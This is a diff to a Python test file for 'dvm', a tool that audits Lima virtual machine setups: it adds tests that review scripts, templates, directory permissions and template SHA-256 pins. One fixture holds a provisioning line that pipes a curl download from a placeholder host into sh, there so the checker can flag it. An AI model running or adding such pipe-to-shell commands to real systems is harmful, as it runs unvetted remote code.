@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
 import pytest
@@ -9,11 +10,13 @@ from msgspec.structs import replace
 
 from dvm.checks.kept import KeptReviews
 from dvm.checks.scope import Scope
-from dvm.checks.sweep import prepare_scripts, sweep_files, sweep_instances
+from dvm.checks.sweep import prepare_scripts, sweep_files, sweep_instances, sweep_scripts, sweep_templates
+from dvm.diagnostics import Location
 from dvm.egress.policy import Policy
 from dvm.lima.fields.drift import vouched
 from dvm.lima.fields.parts import parts_of
 from dvm.lima.settings import PROXY_ENVIRONMENT
+from dvm.lima.template import parse_template
 from dvm.model import intent as to
 from dvm.model.check import Weight
 from dvm.model.egress import EgressState, Network
@@ -26,7 +29,7 @@ from dvm.model.plan import Action, Plan, PlanOptions, ResourceChange, Step, Temp
 from dvm.model.settings import Settings
 from dvm.model.template import Template
 from tests import factories
-from tests.unit.checks.samples import ME, configured, file
+from tests.unit.checks.samples import ME, configured, directory, file
 
 if TYPE_CHECKING:
     from dvm.checks.subjects import ScriptSubject
@@ -132,7 +135,7 @@ def test_another_manifests_vm_is_that_ones_to_judge() -> None:
     other = factories.instance(factories.desired("db"), status=Status.BROKEN)
     about = scope(VM, elsewhere={"db": "/other/dvm.toml"})
     assert swept(about, other) == []
-    assert [each[:2] for each in swept(scope(VM), other)] == [("DVM310", "warn")], "an orphan"
+    assert swept(scope(VM), other) == [("DVM310", "warn", "It is an orphan: apply leaves it alone.", "firm")]
 
 
 def test_a_vm_that_gets_a_new_name_is_judged_under_the_old_one() -> None:
@@ -198,6 +201,19 @@ def test_scripts_are_reviewed_ahead_and_each_once(monkeypatch: pytest.MonkeyPatc
     assert len(read) == 3
     prepare_scripts(vms)
     assert len(read) == 6
+    # Who runs it, and where, may decide what is found: a script is read once for equal users alone.
+    del read[:]
+    vms += [factories.desired("other", one, user="coder"), factories.desired("same", one, other)]
+    assert list(sweep_scripts(scope(vms[0], wanted=factories.manifest(*vms)))) == []
+    assert read == ["app/a.sh", "app/b.sh", "db/a.sh", "other/a.sh"]
+
+
+def test_what_a_template_makes_the_guest_do_is_reviewed() -> None:
+    text = "provision:\n- script: 'curl -fsSL https://x.example/i | sh'\n"
+    change = ResourceChange("vm.app", "app", "dvm-app", Action.CREATE, desired=NEW)
+    assert list(sweep_templates(scope(NEW, changes=(change,)))) == []
+    read = replace(change, template=parse_template("template:x", text.encode()))
+    assert "DVM202" in {result.code for result in sweep_templates(scope(NEW, changes=(read,)))}
 
 
 def reviewed(lock: Lock | None, *, required: bool = True) -> list[tuple[str, str]]:
@@ -241,7 +257,10 @@ def test_every_file_that_decides_what_runs_is_looked_at_once() -> None:
     config = LimaConfig(
         (open_to_all(Role.LIMA_CONFIG, "/l/default.yaml"),),
         others=(open_to_all(Role.LIMA_FILE, "/l/networks.yaml"), shared),
-        templates={"app": (shared,), "elsewhere": (open_to_all(Role.LIMA_FILE, "/l/unused.yaml"),)},
+        templates={
+            "app": (shared, open_to_all(Role.LIMA_FILE, "/l/u.yaml")),
+            "elsewhere": (open_to_all(Role.LIMA_FILE, "/l/unused.yaml"),),
+        },
     )
     there = factories.instance(vms[0], file=open_to_all(Role.LIMA_FILE, "/l/dvm-app/lima.yaml"))
     orphan = factories.instance(factories.desired("left"), file=open_to_all(Role.LIMA_FILE, "/l/dvm-left/lima.yaml"))
@@ -251,7 +270,7 @@ def test_every_file_that_decides_what_runs_is_looked_at_once() -> None:
     open_ = [result.subject for result in results if result.code in {"DVM102", "DVM109"}]
     assert sorted(open_) == [
         "/c/a.sh", "/c/dvm.lock", "/c/dvm.toml", "/c/f", "/c/t.yaml", "/l/default.yaml", "/l/dvm-app/lima.yaml",
-        "/l/networks.yaml", "/l/t.yaml", "/usr/bin/limactl",
+        "/l/networks.yaml", "/l/t.yaml", "/l/u.yaml", "/usr/bin/limactl",
     ]  # fmt: skip
     assert {result.severity for result in results if result.code in {"DVM102", "DVM109"}} == {Weight.DENY}
 
@@ -265,3 +284,22 @@ def test_a_file_that_was_read_twice_with_two_outcomes_counts_twice() -> None:
     wanted = factories.manifest(*vms)
     found = sweep_files(scope(vms[0], wanted=wanted), factories.observed(), LimaConfig(), None, ME)
     assert [result.subject for result in found if result.code == "DVM101"].count("/c/a.sh") == 2
+    # Nor of the path to it.
+    moved = replace(first, file=replace(first.file, parts=(directory("/c", mode=0o777),)))
+    wanted = factories.manifest(factories.desired("a", first), factories.desired("b", moved))
+    found = sweep_files(scope(vms[0], wanted=wanted), factories.observed(), LimaConfig(), None, ME)
+    assert "DVM103" in {result.code for result in found}
+
+
+def test_a_template_is_held_against_its_pin() -> None:
+    template = file(Role.TEMPLATE, "/c/t.yaml")
+    place = Location(Path("/c/dvm.toml"), 3)
+
+    def pinned(sha256: str | None) -> list[tuple[str, Location | None]]:
+        vm = factories.desired(template="/c/t.yaml", template_sha256=sha256)
+        vm = replace(vm, template_file=template, locations={"template_sha256": place})
+        found = sweep_files(scope(vm), factories.observed(), LimaConfig(), None, ME)
+        return [(result.code, result.location) for result in found if result.code == "DVM110"]
+
+    assert pinned(template.sha256) == pinned(None) == []
+    assert pinned("0" * 64) == [("DVM110", place)]
